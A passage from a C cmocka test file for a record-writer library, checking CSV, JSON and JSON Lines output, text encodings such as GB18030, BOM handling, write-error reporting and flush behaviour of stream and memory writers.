	    "{\"k\":\"\",\"k234567890123456789012345678901234567890\":"
	    "\"a\\\"b\",\"k234567890123456789012345678901234567890"
	    "123456789012345678901234567890\":\"陈思远\"}\n");
	free(o.data);
	la_record_free(&r);
}

static void
test_csv_kinds(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	add(&r, "list", -1, "a;b", LA_KIND_LIST);
	add(&r, "none", -1, "", LA_KIND_NULL);
	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
	assert_int_equal(la_record_add_finding(&r, "window", NULL, "late"), 0);
	assert_int_equal(la_record_add_finding(&r, "phone", NULL, "bad, x"),
	    0);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "list,none,findings\n"
	    "a;b,,\"window: late; phone: bad, x\"\n");
	free(o.data);
	la_record_free(&r);
}

static void
test_json_array_output(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	la_record_init(&r);
	wr = open_out(&o, LA_FORMAT_JSON, NULL);
	close_out(&o, wr);
	assert_string_equal(o.data, "[]\n");
	free(o.data);
	wr = open_out(&o, LA_FORMAT_JSON, NULL);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	put(wr, &r);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "[\n{\"a\":\"1\"},\n{\"a\":\"1\"}\n]\n");
	free(o.data);
	la_record_free(&r);
}

/* Reads what a writer produced and compares kinds and values. */
static void
test_json_round_trip(void **state)
{
	static const char text[] = "{\"s\":\"x\\u0000\",\"i\":-42,\"r\":0.1,"
	    "\"t\":true,\"n\":null,\"l\":[\"a\",\"b\"],\"o\":{\"k\":[1,2]},"
	    "\"big\":13199201510000001}\n";
	struct la_read_opts ro;
	struct la_reader *rd;
	struct la_writer *wr;
	struct la_record r, again;
	struct la_error err;
	struct out o;
	FILE *fp = fmemopen((void *)text, sizeof(text) - 1, "rb");

	(void)state;
	memset(&ro, 0, sizeof(ro));
	la_error_clear(&err);
	la_record_init(&r);
	la_record_init(&again);
	rd = la_reader_open(fp, "text", &ro, &err);
	assert_int_equal(la_reader_next(rd, &r, &err), 1);
	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, text);
	la_reader_close(rd);
	fclose(fp);
	fp = fmemopen(o.data, o.len, "rb");
	rd = la_reader_open(fp, "out", &ro, &err);
	assert_int_equal(la_reader_next(rd, &again, &err), 1);
	assert_int_equal(again.nfields, r.nfields);
	for (size_t i = 0; i < r.nfields; i++) {
		assert_int_equal(again.fields[i].kind, r.fields[i].kind);
		assert_int_equal(again.fields[i].len, r.fields[i].len);
		assert_memory_equal(again.fields[i].value, r.fields[i].value,
		    r.fields[i].len);
	}
	la_reader_close(rd);
	fclose(fp);
	free(o.data);
	la_record_free(&r);
	la_record_free(&again);
}

static void
test_gb18030_output(void **state)
{
	static const char want[] = "姓名,通讯地址\n陈思远,示例市𬌗\n";
	char gb[64], *in = (char *)want, *out = gb;
	size_t inleft = sizeof(want) - 1, outleft = sizeof(gb);
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	iconv_t cd = iconv_open("GB18030", "UTF-8");
	struct out o;

	(void)state;
	assert_true(iconv(cd, &in, &inleft, &out, &outleft) != (size_t)-1);
	iconv_close(cd);
	memset(&w, 0, sizeof(w));
	w.encoding = "gb18030";
	w.bom = 1;
	la_record_init(&r);
	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
	add(&r, "通讯地址", LA_F_ADDRESS, "示例市𬌗", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	put(wr, &r);
	close_out(&o, wr);
	/* The same bytes as iconv gives, and no BOM in GB18030. */
	assert_int_equal(o.len, (size_t)(out - gb));
	assert_memory_equal(o.data, gb, o.len);
	free(o.data);
	la_record_free(&r);
}

static void
test_bom_output(void **state)
{
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.bom = 1;
	la_record_init(&r);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, &w);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "\xEF\xBB\xBF" "a\n1\n");
	free(o.data);
	/* RFC 8259 forbids a BOM in JSON. */
	wr = open_out(&o, LA_FORMAT_JSONL, &w);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "{\"a\":\"1\"}\n");
	free(o.data);
	la_record_free(&r);
}

static void
test_unencodable(void **state)
{
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.encoding = "GBK";
	la_record_init(&r);
	r.line = 9;
	add(&r, "姓名", LA_F_NAME, "李𬌗", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_JSONL, &w);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &r, &err), -1);
	assert_int_equal(err.code, LA_ERR_ENCODING);
	assert_int_equal(err.line, 9);
	close_out(&o, wr);
	free(o.data);
	la_record_free(&r);
}

static void
test_invalid_utf8_refused(void **state)
{
	struct la_record good, bad;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	la_record_init(&good);
	la_record_init(&bad);
	add(&good, "a", -1, "1", LA_KIND_TEXT);
	bad.line = 4;
	add(&bad, "a", -1, "\xFF", LA_KIND_TEXT);
	/* The first record fails: the array keeps its '['. */
	wr = open_out(&o, LA_FORMAT_JSON, NULL);
	la_error_clear(&err);
	assert_int_equal(la_writer_put(wr, &bad, &err), -1);
	assert_int_equal(err.code, LA_ERR_VALUE);
	assert_int_equal(err.line, 4);
	assert_string_equal(err.field, "a");
	put(wr, &good);
	close_out(&o, wr);
	assert_string_equal(o.data, "[\n{\"a\":\"1\"}\n]\n");
	free(o.data);
	la_record_free(&good);
	la_record_free(&bad);
}

static void
test_format_names(void **state)
{
	(void)state;
	assert_int_equal(la_format_parse("csv"), LA_FORMAT_CSV);
	assert_int_equal(la_format_parse("jsonl"), LA_FORMAT_JSONL);
	assert_int_equal(la_format_parse("json"), LA_FORMAT_JSON);
	assert_int_equal(la_format_parse("JSON"), -1);
	assert_int_equal(la_format_parse("auto"), -1);
	assert_string_equal(la_format_name(LA_FORMAT_CSV), "csv");
	assert_string_equal(la_format_name(LA_FORMAT_JSONL), "jsonl");
	assert_string_equal(la_format_name(LA_FORMAT_JSON), "json");
	assert_string_equal(la_format_name(LA_FORMAT_AUTO), "auto");
}

static void
test_unknown_output_encoding(void **state)
{
	struct la_write_opts w;
	struct la_error err;

	(void)state;
	memset(&w, 0, sizeof(w));
	w.format = LA_FORMAT_CSV;
	w.encoding = "no-such-encoding";
	la_error_clear(&err);
	assert_null(la_writer_open(stdout, "-", &w, &err));
	assert_int_equal(err.code, LA_ERR_USAGE);
	assert_non_null(strstr(err.text, "no-such-encoding"));
}

/* Writes records to fp until the writer reports an error. */
static void
expect_write_error(FILE *fp, int code)
{
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	int rc = 0;

	memset(&w, 0, sizeof(w));
	w.format = LA_FORMAT_CSV;
	la_record_init(&r);
	add(&r, "通讯地址", LA_F_ADDRESS, "示例市东城区幸福路12号3单元501室",
	    LA_KIND_TEXT);
	la_error_clear(&err);
	wr = la_writer_open(fp, "out", &w, &err);
	assert_non_null(wr);
	for (int i = 0; i < 20000 && rc == 0; i++)
		rc = la_writer_put(wr, &r, &err);
	if (rc == 0)
		rc = la_writer_close(wr, &err);
	else
		la_writer_close(wr, NULL);
	assert_int_equal(rc, -1);
	assert_int_equal(err.code, LA_ERR_IO);
	assert_non_null(strstr(err.text, strerror(code)));
	la_record_free(&r);
}

static void
test_disk_full(void **state)
{
	FILE *fp = fopen("/dev/full", "wb");

	(void)state;
	if (fp == NULL)
		skip();
	expect_write_error(fp, ENOSPC);
	fclose(fp);
}

static void
test_broken_pipe(void **state)
{
	void (*old)(int) = signal(SIGPIPE, SIG_IGN);
	int fds[2];
	FILE *fp;

	(void)state;
	assert_int_equal(pipe(fds), 0);
	close(fds[0]);
	fp = fdopen(fds[1], "wb");
	expect_write_error(fp, EPIPE);
	fclose(fp);
	signal(SIGPIPE, old);
}

/* A flush puts every record written so far into the stream, not later. */
static void
test_flush_writes_all(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	la_record_init(&r);
	add(&r, "name", LA_F_NAME, "张三", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_CSV, NULL);
	put(wr, &r);
	fflush(o.fp);
	/* A record this small waits in the writer until a flush. */
	assert_int_equal(o.len, 0);
	la_error_clear(&err);
	assert_int_equal(la_writer_flush(wr, &err), 0);
	assert_int_equal(o.len, strlen("name\n张三\n"));
	assert_memory_equal(o.data, "name\n张三\n", o.len);
	put(wr, &r);
	close_out(&o, wr);
	assert_string_equal(o.data, "name\n张三\n张三\n");
	free(o.data);
	la_record_free(&r);
}

/*
 * A flush that fails leaves the error in the writer: the close fails with
 * it even once the stream works again, so no text goes out after a gap.
 */
static void
test_flush_error_kept(void **state)
{
	/* Smaller than the header and record, "name\n张三\n" (12 bytes). */
	char buf[8];
	FILE *fp = fmemopen(buf, sizeof(buf), "w");
	struct la_write_opts w;
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;

	(void)state;
	assert_non_null(fp);
	setvbuf(fp, NULL, _IONBF, 0);
	memset(&w, 0, sizeof(w));
	w.format = LA_FORMAT_CSV;
	la_record_init(&r);
	add(&r, "name", LA_F_NAME, "张三", LA_KIND_TEXT);
	la_error_clear(&err);
	wr = la_writer_open(fp, "out", &w, &err);
	assert_non_null(wr);
	assert_int_equal(la_writer_put(wr, &r, &err), 0);
	assert_int_equal(la_writer_flush(wr, &err), -1);
	assert_int_equal(err.code, LA_ERR_IO);
	/* From the start of the buffer the stream has room for 7 bytes. */
	rewind(fp);
	assert_int_equal(la_writer_put(wr, &r, &err), 0);
	la_error_clear(&err);
	assert_int_equal(la_writer_close(wr, &err), -1);
	assert_int_equal(err.code, LA_ERR_IO);
	assert_non_null(strstr(err.text, "write failed"));
	la_record_free(&r);
	fclose(fp);
}

/* A writer that keeps its text in memory, in format with opts. */
static struct la_writer *
open_memory(enum la_format format, const struct la_write_opts *opts)
{
	struct la_write_opts w;
	struct la_error err;
	struct la_writer *wr;

	memset(&w, 0, sizeof(w));
	if (opts != NULL)
		w = *opts;
	w.format = format;
	la_error_clear(&err);
	assert_non_null(wr = la_writer_open(NULL, "<stdout>", &w, &err));
	return wr;
}

/* Asserts that the memory writer wr kept exactly want. */
static void
assert_text(const struct la_writer *wr, const char *want)
{
	size_t len;
	const char *text = la_writer_text(wr, &len);

	assert_int_equal(len, strlen(want));
	assert_memory_equal(text, want, len);
}

/*
 * Two memory writers make one CSV text: the first writes the header, the
 * one that follows it only rows, even with no BOM asked for in memory.
 */
static void
test_memory_writers_follow(void **state)
{
	struct la_write_opts opts = { .bom = 1 };
	struct la_writer *first = open_memory(LA_FORMAT_CSV, &opts);
	struct la_writer *next = open_memory(LA_FORMAT_CSV, &opts);
	struct la_record r;
	struct la_error err;

	(void)state;
	la_record_init(&r);
	add(&r, "姓名", LA_F_NAME, "张三", LA_KIND_TEXT);
	add(&r, "备注", -1, "a,b", LA_KIND_TEXT);
	assert_false(la_writer_started(first));
	put(first, &r);
	assert_true(la_writer_started(first));
	assert_text(first, "姓名,备注\n张三,\"a,b\"\n");
	la_error_clear(&err);
	assert_int_equal(la_writer_follow(next, first, &err), 0);
	assert_true(la_writer_started(next));
	put(next, &r);
	assert_text(next, "张三,\"a,b\"\n");
	la_writer_clear(first);
	assert_text(first, "");
	la_record_free(&r);
	la_writer_close(first, NULL);
	la_writer_close(next, NULL);
}

/* In a JSON array the follower writes the comma before its record. */
static void
test_memory_writers_json_array(void **state)
{
	struct la_writer *first = open_memory(LA_FORMAT_JSON, NULL);
	struct la_writer *next = open_memory(LA_FORMAT_JSON, NULL);
	struct la_record r;
	struct la_error err;

	(void)state;
	la_record_init(&r);
	add(&r, "name", LA_F_NAME, "x", LA_KIND_TEXT);
	put(first, &r);
	assert_text(first, "[\n{\"name\":\"x\"}");
	la_error_clear(&err);
	assert_int_equal(la_writer_follow(next, first, &err), 0);
	put(next, &r);
	assert_text(next, ",\n{\"name\":\"x\"}");
	la_record_free(&r);
	la_writer_close(first, NULL);
	la_writer_close(next, NULL);
}

/*
 * Text put into a stream writer goes out as it is, after the BOM, and a
 * writer that follows a memory writer writes no header of its own.
 */
static void
test_put_text_to_stream(void **state)
{
	struct la_write_opts opts = { .bom = 1 };
	struct la_writer *mem = open_memory(LA_FORMAT_CSV, NULL);
	struct out o;
	struct la_writer *wr = open_out(&o, LA_FORMAT_CSV, &opts);
	struct la_record r;
	struct la_error err;
	const char *text;
	size_t len;

	(void)state;
	la_record_init(&r);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	put(mem, &r);
	text = la_writer_text(mem, &len);
	la_error_clear(&err);
	assert_int_equal(la_writer_put_text(wr, text, len, &err), 0);
	assert_int_equal(la_writer_follow(wr, mem, &err), 0);
	put(wr, &r);
	close_out(&o, wr);
	assert_int_equal(o.len, 3 + strlen("a\n1\n1\n"));
	assert_memory_equal(o.data, "\xEF\xBB\xBF" "a\n1\n1\n", o.len);
	free(o.data);
	la_record_free(&r);
	la_writer_close(mem, NULL);
}

/* A text of 64 KiB or more goes out whole, after the BOM waiting. */
static void
test_put_long_text(void **state)
{
	struct la_write_opts opts = { .bom = 1 };
	struct out o;
	struct la_writer *wr = open_out(&o, LA_FORMAT_CSV, &opts);
	struct la_error err;
	size_t len = 70000;
	char *text = malloc(len);

	(void)state;
	assert_non_null(text);
	memset(text, 'x', len);
	la_error_clear(&err);
	assert_int_equal(la_writer_put_text(wr, "ab", 2, &err), 0);
	assert_int_equal(la_writer_put_text(wr, text, len, &err), 0);
	assert_int_equal(la_writer_put_text(wr, "cd", 2, &err), 0);
	close_out(&o, wr);
	assert_int_equal(o.len, 3 + 2 + len + 2);
	assert_memory_equal(o.data, "\xEF\xBB\xBF" "ab", 5);
	assert_memory_equal(o.data + 5, text, len);
	assert_memory_equal(o.data + 5 + len, "cd", 2);
	free(o.data);
	free(text);
}

/* Asserts that the stream of o contains exactly want once flushed. */
static void
assert_stream(struct out *o, const char *want)
{
	fflush(o->fp);
	assert_int_equal(o->len, strlen(want));
	assert_memory_equal(o->data, want, o->len);
}

/*
 * A flush in a JSON array ends the line of the last record, whose comma
 * waits for the next record, so that a message printed next has a line
 * of its own. The ',' then starts the next record's line.
 */
static void
test_json_flush_ends_line(void **state)
{
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	la_record_init(&r);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	wr = open_out(&o, LA_FORMAT_JSON, NULL);
	la_error_clear(&err);
	/* Before the first record there is no line to end. */
	assert_int_equal(la_writer_flush(wr, &err), 0);
	assert_stream(&o, "");
	put(wr, &r);
	assert_int_equal(la_writer_flush(wr, &err), 0);
	assert_stream(&o, "[\n{\"a\":\"1\"}\n");
	/* A second flush has no line left to end. */
	assert_int_equal(la_writer_flush(wr, &err), 0);
	assert_stream(&o, "[\n{\"a\":\"1\"}\n");
	put(wr, &r);
	put(wr, &r);
	assert_int_equal(la_writer_flush(wr, &err), 0);
	close_out(&o, wr);
	assert_string_equal(o.data, "[\n{\"a\":\"1\"}\n,\n{\"a\":\"1\"},\n"
	    "{\"a\":\"1\"}\n]\n");
	free(o.data);
	la_record_free(&r);
}

/* Lines end the same way after text copied from a memory writer. */
static void
test_json_flush_after_text(void **state)
{
	struct la_writer *mem = open_memory(LA_FORMAT_JSON, NULL);
	struct out o;
	struct la_writer *wr = open_out(&o, LA_FORMAT_JSON, NULL);
	struct la_record r;
	struct la_error err;
	const char *text;
	size_t len;

	(void)state;
	la_record_init(&r);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	put(mem, &r);
	text = la_writer_text(mem, &len);
	la_error_clear(&err);
	assert_int_equal(la_writer_put_text(wr, text, len, &err), 0);
	assert_int_equal(la_writer_flush(wr, &err), 0);
	assert_stream(&o, "[\n{\"a\":\"1\"}\n");
	la_writer_clear(mem);
	put(mem, &r);
	text = la_writer_text(mem, &len);
	assert_int_equal(la_writer_put_text(wr, text, len, &err), 0);
	assert_int_equal(la_writer_follow(wr, mem, &err), 0);
	close_out(&o, wr);
	assert_string_equal(o.data, "[\n{\"a\":\"1\"}\n,\n{\"a\":\"1\"}\n]\n");
	free(o.data);
	la_record_free(&r);
	la_writer_close(mem, NULL);
}

/* JSON Lines and CSV end every record with "\n": a flush adds nothing. */
static void
test_flush_adds_nothing_to_lines(void **state)
{
	static const enum la_format formats[] = {
		LA_FORMAT_JSONL, LA_FORMAT_CSV
	};
	static const char *const want[] = {
		"{\"a\":\"1\"}\n{\"a\":\"1\"}\n", "a\n1\n1\n"
	};
	struct la_record r;
	struct la_writer *wr;
	struct la_error err;
	struct out o;

	(void)state;
	la_record_init(&r);
	add(&r, "a", -1, "1", LA_KIND_TEXT);
	for (size_t i = 0; i < 2; i++) {
		wr = open_out(&o, formats[i], NULL);
		la_error_clear(&err);
		put(wr, &r);
		assert_int_equal(la_writer_flush(wr, &err), 0);
		put(wr, &r);
		assert_int_equal(la_writer_flush(wr, &err), 0);
		close_out(&o, wr);
		assert_string_equal(o.data, want[i]);
		free(o.data);
	}
	la_record_free(&r);
}

/* A reset writer starts over: header, or "[", and no text kept. */
static void
test_memory_writer_reset(void **state)
{
	struct la_write_opts opts = { .encoding = "gb18030" };
	struct la_writer *csv = open_memory(LA_FORMAT_CSV, &opts);
	struct la_writer *json = open_memory(LA_FORMAT_JSON, NULL);
	struct la_record a, b;

	(void)state;
	la_record_init(&a);
	la_record_init(&b);
	add(&a, "x", -1, "1", LA_KIND_TEXT);
	add(&b, "姓", -1, "张", LA_KIND_TEXT);
	put(csv, &a);
	put(json, &a);
	la_writer_reset(csv);
	la_writer_reset(json);
	assert_false(la_writer_started(csv));
	assert_text(csv, "");
	put(csv, &b);
	put(json, &b);
	/* 姓 is D0 D5 and 张 is D5 C5 in GB18030. */
	assert_text(csv, "\xD0\xD5\n\xD5\xC5\n");
	assert_text(json, "[\n{\"姓\":\"张\"}");
	la_record_free(&a);
	la_record_free(&b);
	la_writer_close(csv, NULL);
	la_writer_close(json, NULL);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_memory_writers_follow),
		cmocka_unit_test(test_memory_writers_json_array),
		cmocka_unit_test(test_put_text_to_stream),
		cmocka_unit_test(test_put_long_text),
		cmocka_unit_test(test_memory_writer_reset),
		cmocka_unit_test(test_json_flush_ends_line),
		cmocka_unit_test(test_json_flush_after_text),
		cmocka_unit_test(test_flush_adds_nothing_to_lines),
		cmocka_unit_test(test_csv_quoting),
		cmocka_unit_test(test_csv_columns),
		cmocka_unit_test(test_csv_given_columns),
		cmocka_unit_test(test_csv_given_columns_no_record),
		cmocka_unit_test(test_csv_dropped_warned_per_writer),
		cmocka_unit_test(test_csv_columns_by_alias),
		cmocka_unit_test(test_csv_lone_empty_field),
		cmocka_unit_test(test_csv_quoting_positions),
		cmocka_unit_test(test_csv_quoting_byte_pairs),
		cmocka_unit_test(test_csv_quoting_examples),
		cmocka_unit_test(test_csv_order_and_rendering),
		cmocka_unit_test(test_csv_names_reused),
		cmocka_unit_test(test_csv_round_trips),
		cmocka_unit_test(test_doubled_quotes_written),
		cmocka_unit_test(test_formula_guard),
		cmocka_unit_test(test_mask),
		cmocka_unit_test(test_json_kinds),
		cmocka_unit_test(test_json_escape_case),
		cmocka_unit_test(test_json_invalid_positions),
		cmocka_unit_test(test_json_keys),
		cmocka_unit_test(test_json_long_keys_reused),
		cmocka_unit_test(test_csv_kinds),
		cmocka_unit_test(test_json_array_output),
		cmocka_unit_test(test_json_round_trip),
		cmocka_unit_test(test_gb18030_output),
		cmocka_unit_test(test_bom_output),
		cmocka_unit_test(test_unencodable),
		cmocka_unit_test(test_invalid_utf8_refused),
		cmocka_unit_test(test_format_names),
		cmocka_unit_test(test_unknown_output_encoding),
		cmocka_unit_test(test_disk_full),
		cmocka_unit_test(test_broken_pipe),
		cmocka_unit_test(test_flush_writes_all),
		cmocka_unit_test(test_flush_error_kept),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
